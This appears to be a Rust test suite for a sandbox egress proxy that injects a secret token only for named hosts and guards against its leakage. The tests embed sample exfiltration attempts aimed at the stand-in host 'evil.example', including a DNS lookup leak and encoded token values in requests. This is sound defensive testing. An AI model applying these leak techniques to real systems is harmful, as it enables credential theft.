//! Terminated hosts, from a program in a room to the host and back.

use std::{
    fs,
    path::{Path, PathBuf},
};

use base64::{Engine, engine::general_purpose::STANDARD_NO_PAD};
use hothouse_testkit::{TestEnv, skip, wait_until};

use super::{
    FETCH,
    internet::{Internet, walled_after},
    py, records,
};

/// Sends a request with the room's placeholder, trusting the room's CAs.
const ASK: &str = "
def ask(url, method='GET', cafile=None):
    context = ssl.create_default_context(cafile=cafile)
    headers = {'Authorization': 'Bearer ' + os.environ['TOKEN']}
    body = b'x' if method == 'POST' else None
    try:
        request = u.Request(url, headers=headers, method=method, data=body)
        with u.urlopen(request, timeout=20, context=context) as answer:
            return f'{answer.status} {answer.read().decode()}'
    except urllib.error.HTTPError as error:
        return f'{error.code} {error.read().decode()}'
    except OSError as error:
        return f'ERROR {error}'
";

fn ask(env: &TestEnv, repository: &Path, arguments: &str) -> String {
    let ran = py(env, repository, &format!("{ASK}\nprint(ask({arguments}))"));
    assert_eq!(ran.code, 0, "{ran}");
    ran.stdout
}

fn placeholder(env: &TestEnv, repository: &Path) -> String {
    let print = ["exec", "-w", "a", "--", "sh", "-c", "printf %s \"$TOKEN\""];
    env.ok(repository, &print)
}

/// All hosts here have one address, so one that is not terminated must be named to pass.
const CONFIG: &str = "mode = \"web\"\nallow = [\"ADDRESS\", \"evil.example\"]\n\
    [secret.TOKEN]\nhosts = [\"good.example\"]\nfrom = \"env:MY_TOKEN\"\n\
    [integration.cms]\nclass = \"read-only\"\nhosts = [\"other.example\"]\n\
    [integration.shop]\nclass = \"mock\"\nhosts = [\"mock.example\"]\n";

/// The value of the host's variable `MY_TOKEN`.
const VALUE: &str = "tok_0123456789abcdefghijklmnop";

fn with_token(test: impl Fn(&TestEnv, &Path, &Internet)) {
    walled_after(CONFIG, |env, _| env.set("MY_TOKEN", VALUE), test);
}

/// Connects to a host over TLS without a server name, or with another one, and requests one inside.
const UNNAMED: &str = "
import socket, ssl, time
def unnamed(host, silence=0, name=None):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        plain = socket.create_connection((host, 443), timeout=20)
        time.sleep(silence)
        tls = context.wrap_socket(plain, server_hostname=name)
        tls.sendall(b'POST /echo HTTP/1.1\\r\\nHost: other.example\\r\\nContent-Length: 0\\r\\n\\r\\n')
        return tls.recv(100).decode() or 'ended'
    except OSError as error:
        return f'refused {error}'
";

#[test]
fn a_covered_host_is_not_reached_by_its_address_or_another_name_of_it() {
    for mode in ["web", "open"] {
        let config = CONFIG.replace("web", mode);
        let before = |env: &mut TestEnv, _: &Internet| env.set("MY_TOKEN", VALUE);
        walled_after(&config, before, |env, repository, internet| {
            // The last one is an unrelated name that resolves to the covered host's address.
            let hosts = ["other.example", "xn--bcher-kva.example"];
            for (host, how) in hosts.into_iter().flat_map(|host| {
                ["", ", 0.5", ", 0, 'xn--bcher-kva.example'", ", 0.5, 'xn--bcher-kva.example'"]
                    .map(|how| (host, how))
            }) {
                let code = format!("{UNNAMED}\nprint(unnamed('{host}'{how}))");
                let ran = py(env, repository, &code);
                assert!(ran.stdout.starts_with("refused "), "{mode} {host}{how}: {ran}");
            }
            assert!(!internet.log().contains("https POST"), "{}", internet.log());
            let codes = records(env, repository, &[]);
            let covered = codes.iter().filter(|record| record["code"] == "covered");
            assert_eq!(covered.count(), 8, "{codes:?}");
            let why =
                env.json(repository, &["egress", "why", "other.example", "-w", "a", "--json"]);
            let now = (&why["now"]["verdict"], &why["now"]["code"]);
            assert_eq!(now, (&"denied".into(), &"covered".into()), "{why:#}");
        });
    }
}

#[test]
fn the_named_host_gets_the_value_and_nobody_else_does() {
    with_token(|env, repository, internet| {
        let own = placeholder(env, repository);
        assert_ne!(own, VALUE);
        let answer = ask(env, repository, "'https://good.example/echo'");
        assert!(answer.starts_with("200 "), "{answer}");
        assert!(answer.contains(&own) && !answer.contains(VALUE), "{answer}");
        let sent = |line: &str| internet.log().lines().any(|known| known == line);
        assert!(
            sent(&format!("https authorization good.example Bearer {VALUE}")),
            "{}",
            internet.log()
        );

        // Compressed although the client asked for no compression, it is still scanned.
        let packed = ask(env, repository, "'https://good.example/gzip-echo'");
        assert_eq!(packed.matches(&own).count(), 2000, "{}", &packed[..200.min(packed.len())]);
        assert!(!packed.contains(VALUE));
        let curl = "curl -sS --compressed https://good.example/gzip-echo -H \"Authorization: Bearer $TOKEN\" | sort -u";
        let ran = env.run(repository, &["exec", "-w", "a", "--", "sh", "-c", curl]);
        assert_eq!(ran.stdout, format!("Bearer {own}\n"), "{ran}");

        // Terminated for another reason, and named by no secret.
        assert!(ask(env, repository, "'https://other.example/echo'").starts_with("200 "));
        assert!(sent(&format!("https authorization other.example Bearer {own}")));
        let denied = ask(env, repository, "'https://other.example/echo', 'POST'");
        assert!(denied.starts_with("403 ") && denied.contains("read-only"), "{denied}");
        assert!(!internet.log().contains("https POST"), "{}", internet.log());

        // Not terminated: the certificate is the host's own, which the room does not trust.
        let strange = ask(env, repository, "'https://evil.example/echo'");
        assert!(strange.contains("CERTIFICATE_VERIFY_FAILED"), "{strange}");
        let passed = ask(env, repository, "'https://evil.example/echo', cafile='ca.pem'");
        assert!(passed.starts_with("200 ") && passed.contains(&own), "{passed}");
        assert!(sent(&format!("https authorization evil.example Bearer {own}")));

        // Without TLS nothing is inserted.
        assert!(ask(env, repository, "'http://good.example/echo'").starts_with("200 "));
        assert!(sent(&format!("http authorization good.example Bearer {own}")));

        let all = records(env, repository, &[]);
        let request = all.iter().find(|record| {
            record["host"] == "good.example" && record["request"]["detail"]["secrets"][0] == "TOKEN"
        });
        let request = request.unwrap_or_else(|| panic!("the request is not in {all:#?}"));
        assert_eq!(request["request"]["status"], 200);
        for folder in ["state", "run", "acme-sandboxes", "config"] {
            assert!(!holds(&env.root().join(folder), VALUE), "{folder} holds the value");
        }
    });
}

/// Everything that could write a value to a file: it is inserted, sent back in several encodings,
/// requested in ranges, guessed in every part of a request, and requests break off or are refused.
const EVERYTHING: &str = r"
import base64
value = 'tok_0123456789' + 'abcdefghijklmnop'
writings = [value, base64.b64encode(value.encode()).decode(), value.encode().hex(),
    ''.join('%%%02x' % byte for byte in value.encode())]
def talk(host, lines, body=b'', tls=True, most=1 << 16):
    stream = socket.create_connection((host, 443 if tls else 80), timeout=20)
    if tls: stream = ssl.create_default_context().wrap_socket(stream, server_hostname=host)
    head = lines + [f'Content-Length: {len(body)}', 'Connection: close', '', '']
    stream.sendall('\r\n'.join(head).encode() + body)
    answer = b''
    try:
        while len(answer) < most and (piece := stream.recv(4096)): answer += piece
    except OSError: pass
    stream.close()
    return answer
token = 'Authorization: Bearer ' + os.environ['TOKEN']
# Before the wall has put the value in anywhere: hosts without a secret that answer with what they were sent, and names.
for writing in [value, writings[2]]:
    for host, tls in [('mock.example', True), ('mock.example', False), ('other.example', True), ('evil.example', False)]:
        lines = ['GET /' + writing + '/x?q=' + writing + ' HTTP/1.1', 'Host: ' + host, 'X-Guess: ' + writing]
        assert talk(host, lines, writing.encode(), tls).startswith(b'HTTP/1.1 '), host
for name in [value + '.evil.example', value]:
    try: socket.getaddrinfo(name, 80)
    except OSError: pass
for tls in [True, False]:
    for writing in writings + [value[:length] for length in range(5, len(value))]:
        answer = talk('good.example', ['POST /say?guess=' + writing + ' HTTP/1.1', 'Host: good.example', token,
            'X-Guess: ' + writing], writing.encode(), tls)
        assert answer.startswith(b'HTTP/1.1 200') and value.encode() not in answer, answer
    for lines in [
        ['GET /echo HTTP/1.1', 'Host: good.example'], ['GET /gzip-echo HTTP/1.1', 'Host: good.example'],
        ['GET /echo HTTP/1.1', 'Host: good.example', 'Range: bytes=0-9'],
        ['GET /' + value + ' HTTP/1.1', 'Host: other.example'], ['TRACE /' + value + ' HTTP/1.1', 'Host: good.example'],
        ['GET /broken HTTP/1.1', 'Host: good.example'], ['nonsense ' + value, 'Host: good.example'],
    ]:
        assert value.encode() not in talk('good.example', lines + [token], tls=tls), lines
    talk('good.example', ['GET /slow HTTP/1.1', 'Host: good.example', token], tls=tls, most=1)
print('done')
";

#[test]
fn no_file_ever_holds_a_value() {
    with_token(|env, repository, internet| {
        let own = placeholder(env, repository);
        let ran = py(env, repository, EVERYTHING);
        assert_eq!((ran.code, ran.stdout.as_str()), (0, "done\n"), "{ran}");
        assert!(internet.log().contains(&format!("good.example Bearer {VALUE}")));
        env.ok(repository, &["egress", "log", "-w", "a"]);
        env.ok(repository, &["egress", "why", "good.example", "-w", "a"]);
        env.ok(repository, &["snapshot", "now", "-w", "a"]);
        // Pending records are written when the daemon ends.
        env.ok(repository, &["down", "-w", "a"]);
        env.ok(repository, &["daemon", "stop"]);
        assert!(holds(&env.state(), &own), "the ledger holds what the room sent");
        for writing in writings(VALUE) {
            let found = holding(env.root(), &writing);
            assert!(found.is_empty(), "{found:?} hold {writing}: {}", around(&found[0], &writing));
        }
    });
}

/// Returns what precedes a text in a file.
fn around(file: &Path, text: &str) -> String {
    let bytes = fs::read(file).unwrap_or_default();
    let at = memchr::memmem::find(&bytes, text.as_bytes()).unwrap_or(0);
    String::from_utf8_lossy(&bytes[at.saturating_sub(600)..at]).into_owned()
}

/// Encodings of a value that a file could contain.
fn writings(value: &str) -> Vec<String> {
    let each = |write: fn(&u8) -> String, between: &str| {
        value.as_bytes().iter().map(write).collect::<Vec<_>>().join(between)
    };
    let mut all = vec![
        value.to_owned(),
        each(|byte| format!("{byte:02x}"), ""),
        each(|byte| format!("{byte:02X}"), ""),
        each(|byte| format!("%{byte:02x}"), ""),
        each(|byte| format!("%{byte:02X}"), ""),
        each(|byte| format!("\\u{byte:04x}"), ""),
        each(|byte| byte.to_string(), ","),
    ];
    // At each of the three alignments, without characters shared with neighbours.
    for before in ["", "x", "xx"] {
        let encoded = STANDARD_NO_PAD.encode(format!("{before}{value}"));
        all.push(encoded[4..encoded.len() - 2].to_owned());
    }
    all
}

/// Asks as [`ask`] does.
const JAVA: &str = r#"
import java.net.URI;
import java.net.http.*;

public class Ask {
    public static void main(String[] words) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(words[0]))
            .header("Authorization", "Bearer " + System.getenv("TOKEN")).build();
        var answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(answer.statusCode() + " " + answer.body());
    }
}
"#;

#[test]
fn other_clients_trust_the_authority_too() {
    with_token(|env, repository, internet| {
        let own = placeholder(env, repository);
        fs::write(env.root().join("acme-sandboxes/a/Ask.java"), JAVA).unwrap();
        let node = "fetch('https://good.example/echo', { headers: { authorization: 'Bearer ' + process.env.TOKEN } })\
                    .then(answer => answer.text()).then(text => console.log(text))";
        let curl = "curl -sS https://good.example/echo -H \"Authorization: Bearer $TOKEN\"";
        let clients = [
            ("curl", curl.to_owned()),
            ("node", format!("node -e \"{node}\"")),
            ("javac", "java Ask.java https://good.example/echo".to_owned()),
        ];
        for (program, command) in clients {
            let find = ["exec", "-w", "a", "--", "sh", "-c", &format!("command -v {program}")];
            if env.run(repository, &find).code != 0 {
                skip(&format!("a request by {program}"), program);
                continue;
            }
            let ran = env.run(repository, &["exec", "-w", "a", "--", "sh", "-c", &command]);
            assert_eq!(ran.code, 0, "{ran}");
            assert!(ran.stdout.contains(&own) && !ran.stdout.contains(VALUE), "{ran}");
        }
        assert!(internet.log().contains(VALUE));
    });
}

#[test]
fn a_new_daemon_serves_the_placeholder_of_the_old_one() {
    with_token(|env, repository, internet| {
        let own = placeholder(env, repository);
        env.kill_daemon();
        wait_until("the next daemon serves the room", || {
            ask(env, repository, "'https://good.example/echo'").starts_with("200 ")
        });
        assert_eq!(placeholder(env, repository), own);
        let sent = format!("https authorization good.example Bearer {VALUE}");
        assert!(internet.log().contains(&sent), "{}", internet.log());
    });
}

#[test]
fn a_secret_is_used_without_being_seen() {
    let config = "mode = \"allowlist\"\nallow = [\"good.example\", \"other.example\", \"ADDRESS\"]\n\
                  [secret.TOKEN]\nhosts = [\"good.example\"]\nfrom = \"env:MY_TOKEN\"\n";
    walled_after(
        config,
        |env, _| env.set("MY_TOKEN", VALUE),
        |env, repository, internet| {
            let code = format!(
            "{FETCH}
context = ssl.create_default_context()
token = os.environ['TOKEN']
print(token)
def ask(host):
    request = u.Request('https://' + host + '/echo', headers={{'Authorization': 'Bearer ' + token}})
    with u.urlopen(request, timeout=20, context=context if host == 'good.example' else ssl.create_default_context(cafile='ca.pem')) as answer:
        return answer.read().decode().strip()
print(ask('good.example'))
print(ask('other.example'))
"
        );
            let ran = py(env, repository, &code);
            let lines: Vec<&str> = ran.stdout.lines().collect();
            assert_eq!(lines.len(), 3, "{ran}");
            assert!(!ran.stdout.contains(VALUE), "{ran}");
            let placeholder = lines[0];
            assert_eq!(
                lines[1],
                format!("Bearer {placeholder}"),
                "the echo is looked through: {ran}"
            );
            assert_eq!(lines[2], format!("Bearer {placeholder}"), "{ran}");
            let log = internet.log();
            assert!(log.contains(&format!("good.example Bearer {VALUE}")), "{log}");
            assert!(log.contains(&format!("other.example Bearer {placeholder}")), "{log}");
            let all = records(env, repository, &["--host", "good.example"]);
            let text = serde_json::to_string(&all).unwrap();
            assert!(!text.contains(VALUE), "{text}");
            let request = all.iter().find(|record| record["kind"] == "request").unwrap();
            assert_eq!(request["request"]["method"], "GET", "{request}");
            assert_eq!(request["request"]["status"], 200, "{request}");
            assert_eq!(request["request"]["detail"]["secrets"][0], "TOKEN", "{request}");
        },
    );
}

#[test]
fn rules_that_look_at_requests_hold_inside_tls() {
    let config = "mode = \"allowlist\"\nallow = [{ host = \"good.example\", methods = [\"GET\"], paths = [\"/v1\"] }, \"ADDRESS\"]\n";
    walled_after(
        config,
        |_, _| {},
        |env, repository, internet| {
            let code = "
context = ssl.create_default_context()
def ask(method, url):
    try:
        with u.urlopen(u.Request(url, method=method), timeout=20, context=context) as answer: return answer.status
    except urllib.error.HTTPError as error: return error.code
for scheme in ['http', 'https']:
    print(ask('GET', scheme + '://good.example/v1/x'), ask('POST', scheme + '://good.example/v1/x'), ask('GET', scheme + '://good.example/v2'))
";
            let ran = py(env, repository, code);
            assert_eq!(ran.stdout, "200 403 403\n200 403 403\n", "{ran}");
            assert!(
                !internet.log().contains("POST") && !internet.log().contains("/v2"),
                "{}",
                internet.log()
            );
        },
    );
}

/// Returns whether a file below a folder holds a text.
fn holds(folder: &Path, text: &str) -> bool {
    !holding(folder, text).is_empty()
}

/// Returns the files below a folder that hold a text.
fn holding(folder: &Path, text: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).into_iter().flatten().flatten() {
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            found.extend(holding(&entry.path(), text));
        } else if kind.is_file() {
            let bytes = fs::read(entry.path()).unwrap_or_default();
            if memchr::memmem::find(&bytes, text.as_bytes()).is_some() {
                found.push(entry.path());
            }
        }
    }
    found
}

/// What a host in test mode may get.
const TEST_MODE: &str = "mode = \"allowlist\"\nallow = [\"ADDRESS\"]\n\
    [integration.pay]\nclass = \"test-mode\"\nhosts = [\"good.example\"]\n\
    [secret.TOKEN]\nhosts = [\"good.example\"]\nfrom = \"env:MY_TOKEN\"\n";

#[test]
fn no_live_key_reaches_a_host_in_test_mode() {
    let live = format!("sk_{}_{}", "live", "a1B2c3D4e5F6g7H8i9J0k1L2");
    let test = live.replace("live", "test");
    // The user's stored values are checked as well.
    for (value, passes) in [(&test, true), (&live, false)] {
        let before = |env: &mut TestEnv, _: &Internet| env.set("MY_TOKEN", value.clone());
        walled_after(TEST_MODE, before, |env, repository, internet| {
            let own = ask(env, repository, "'https://good.example/echo'");
            assert_eq!(own.starts_with("200 "), passes, "{own}");
            if !passes {
                assert!(own.starts_with("403 ") && own.contains("live Stripe"), "{own}");
                assert!(!own.contains(value.as_str()), "{own}");
            }
            for (how, expected) in [
                (format!("headers={{'X-Key': '{live}'}}"), "403"),
                (
                    format!(
                        "headers={{'Authorization': 'Basic ' + base64.b64encode(b'{live}:').decode()}}"
                    ),
                    "403",
                ),
                (format!("data=b'key={live}'"), "403"),
                (
                    format!(
                        "data=gzip.compress(b'key={live}'), headers={{'Content-Encoding': 'gzip'}}"
                    ),
                    "403",
                ),
                (format!("query='?key={live}'"), "403"),
                (format!("data=b'key={test}'"), "200"),
            ] {
                let code = format!(
                    "import base64, gzip\ndef go(query='', **how):\n    try:\n        print(u.urlopen(u.Request('https://good.example/echo' + query, **how), timeout=20).status)\n    except urllib.error.HTTPError as error:\n        print(error.code)\ngo({how})"
                );
                let ran = py(env, repository, &code);
                assert_eq!(ran.stdout.trim(), expected, "{how}: {ran}");
            }
            assert!(!internet.log().contains(&live), "{}", internet.log());
            let requests =
                env.json(repository, &["requests", "-w", "a", "--json", "class=test-mode"]);
            assert!(
                requests
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|one| one["status"] == 403 && one["matched"].is_null())
            );
        });
    }
}
